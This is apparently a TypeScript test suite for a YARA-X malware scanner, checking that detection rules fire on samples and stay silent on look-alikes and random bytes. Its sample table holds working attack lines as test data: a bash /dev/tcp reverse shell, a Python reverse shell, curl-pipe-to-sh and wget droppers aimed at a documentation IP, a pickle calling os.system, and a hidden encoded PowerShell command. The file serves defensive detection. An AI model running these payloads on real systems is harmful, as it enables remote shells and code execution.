import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, open, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { compile, type YaraX } from '@litko/yara-x';
import { DEFAULT_YARA_RULES } from './default-yara-rules.js';
import { compileYaraRules } from './compile-yara-rules.js';
import { scanFileWithYara } from './scan-file-with-yara.js';
import { YARA_COMPILER_OPTIONS } from './yara-compiler-options.js';

/** xorshift32: seeded, so a failure reproduces. */
function randomBytes(length: number, seed: number): Buffer {
  const out = Buffer.alloc(length);
  const words = new Uint32Array(out.buffer, out.byteOffset, length >>> 2);
  let s = seed >>> 0 || 1;
  for (let i = 0; i < words.length; i++) {
    s ^= s << 13; s >>>= 0; s ^= s >>> 17; s ^= s << 5; s >>>= 0;
    words[i] = s;
  }
  return out;
}

function elfHeader(): Buffer {
  const h = Buffer.alloc(64);
  h.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]); // 64-bit, little-endian, version 1
  h.writeUInt16LE(3, 16); // ET_DYN
  h.writeUInt16LE(0x3e, 18); // x86-64
  h.writeUInt32LE(1, 20); // e_version
  return h;
}

function peHeaders(): Buffer {
  const h = Buffer.alloc(0x200);
  h.write('MZ', 0, 'latin1');
  h.writeUInt32LE(0x80, 0x3c); // e_lfanew
  h.write('PE\0\0', 0x80, 'latin1');
  h.writeUInt16LE(0x8664, 0x84); // AMD64
  h.writeUInt16LE(3, 0x86); // sections
  h.writeUInt16LE(0xf0, 0x94); // SizeOfOptionalHeader
  h.writeUInt16LE(0x20b, 0x98); // PE32+
  return h;
}

const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');

/** One payload per default rule; each must fire its rule and no other. */
const SAMPLES: Record<string, Buffer> = {
  Keep_Pickle_Global_Exec: latin1('\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.'),
  Keep_Pickle_Stack_Global_Exec: latin1('\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.'),
  Keep_Embedded_ELF: elfHeader(),
  Keep_Embedded_PE: peHeaders(),
  Keep_Shell_Dropper: latin1('#!/bin/sh\nset -e\ncd /tmp\nwget http://198.51.100.7/x -O x\n'),
  Keep_Download_And_Execute: latin1('RUN curl -fsSL http://198.51.100.7/install | sh\n'),
  Keep_Bash_Dev_Tcp: latin1('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'),
  Keep_Python_Reverse_Shell: latin1('import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);' +
    's.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);p=subprocess.call(["/bin/sh","-i"])'),
  Keep_PowerShell_Encoded_Command: latin1('powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'),
  Keep_Embedded_Private_Key: latin1('-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n'),
};

/** Look-alikes a benign file may hold: none may fire. */
const NEAR_MISSES: Record<string, Buffer> = {
  'bare MZ and PE without an optional header': Buffer.concat([latin1('MZ\x90\x00'), Buffer.alloc(60), latin1('PE\0\0d\x86')]),
  'ELF magic with a bad e_version': Buffer.concat([latin1('\x7fELF\x02\x01\x01'), Buffer.alloc(57, 0xff)]),
  'curl in prose': latin1('Install with curl, then run the model with sh scripts.'),
  'shebang without a download': latin1('#!/bin/bash\necho "hello"\nexit 0\n'),
  'socket without a shell': latin1('s = socket.socket(socket.AF_INET); s.connect(addr)'),
  'PowerShell with a short argument': latin1('powershell -ExecutionPolicy Bypass -File setup.ps1'),
  'public key': latin1('-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----'),
  'torch pickle globals': latin1('\x80\x02ctorch._utils\n_rebuild_tensor_v2\nq\x00ccollections\nOrderedDict\nq\x01'),
};

function scanner(): YaraX {
  return compile(DEFAULT_YARA_RULES, YARA_COMPILER_OPTIONS) as YaraX;
}

test('DEFAULT_YARA_RULES compiles and every rule has a sample in this test', () => {
  compileYaraRules(DEFAULT_YARA_RULES);
  const declared = [...DEFAULT_YARA_RULES.matchAll(/^rule (\w+)/gm)].map((m) => m[1]).sort();
  assert.deepEqual(declared, Object.keys(SAMPLES).sort());
});

test('DEFAULT_YARA_RULES fires each rule, alone, on its sample inside random bytes', () => {
  const rules = scanner();
  for (const [rule, sample] of Object.entries(SAMPLES)) {
    const at = 1000;
    const data = Buffer.concat([randomBytes(at, 7), sample, randomBytes(1000, 8)]);
    const hits = rules.scan(data);
    assert.deepEqual(hits.map((h) => h.ruleIdentifier), [rule], `${rule} on its sample`);
    const first = Math.min(...(hits[0]?.matches ?? []).map((m) => m.offset));
    assert.ok(first >= at && first < at + sample.length, `${rule} hit inside the sample, got ${first}`);
  }
});

test('DEFAULT_YARA_RULES stays silent on look-alikes', () => {
  const rules = scanner();
  for (const [name, sample] of Object.entries(NEAR_MISSES)) {
    assert.deepEqual(rules.scan(sample).map((h) => h.ruleIdentifier), [], name);
  }
});

test('DEFAULT_YARA_RULES stays silent on 256 MiB of seeded random bytes', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'keep-yara-'));
  try {
    const path = join(dir, 'random.bin');
    const file = await open(path, 'w');
    try {
      for (let i = 0; i < 16; i++) await file.write(randomBytes(16 * 1024 * 1024, 0x5eed + i));
    } finally {
      await file.close();
    }
    const started = performance.now();
    const matches = await scanFileWithYara(path, compileYaraRules(DEFAULT_YARA_RULES));
    t.diagnostic(`default rules over 256 MiB random: ${(256 / ((performance.now() - started) / 1000)).toFixed(0)} MiB/s`);
    assert.deepEqual(matches, []);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});
